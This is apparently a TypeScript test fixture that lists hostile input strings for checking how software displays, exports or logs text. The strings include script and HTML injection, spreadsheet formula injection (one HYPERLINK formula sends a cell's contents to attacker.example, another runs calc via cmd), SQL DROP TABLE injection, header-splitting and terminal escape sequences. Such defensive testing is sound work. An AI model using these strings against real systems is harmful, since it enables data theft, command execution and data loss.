/** Attacks on whatever shows, exports or logs a text. */
export const hostileStrings = [
  '<script>window.__owned = true</script>',
  '"><img src=x onerror="window.__owned = true">',
  '=HYPERLINK("https://attacker.example/?"&A1,"open")',
  "+cmd|'/C calc'!A0",
  '@SUM(1+1)*cmd',
  '-2+3+cmd',
  '\u202Egnp.exe\u202C right to left',
  'long'.repeat(1250),
  '[click](javascript:window.__owned=true)',
  '🏴‍☠️ é 漢字 \u200B zero width',
  `'; DROP TABLE finding; -- "quoted" \`ticked\``,
  'first line\r\nSet-Cookie: owned=1\r\n\r\nsecond',
  '\u001B[31mred\u001B[0m\u0007\u001B]0;title\u0007',
  '__proto__',
  '{{constructor.constructor("return 1")()}} ${7*7} %00 %n',
  '\tTab\u0000null\u2028separator',
] as const

/** The attack at this place of the list; it starts again at the end. */
export const poisoned = (at: number): string => hostileStrings[at % hostileStrings.length] ?? hostileStrings[0]
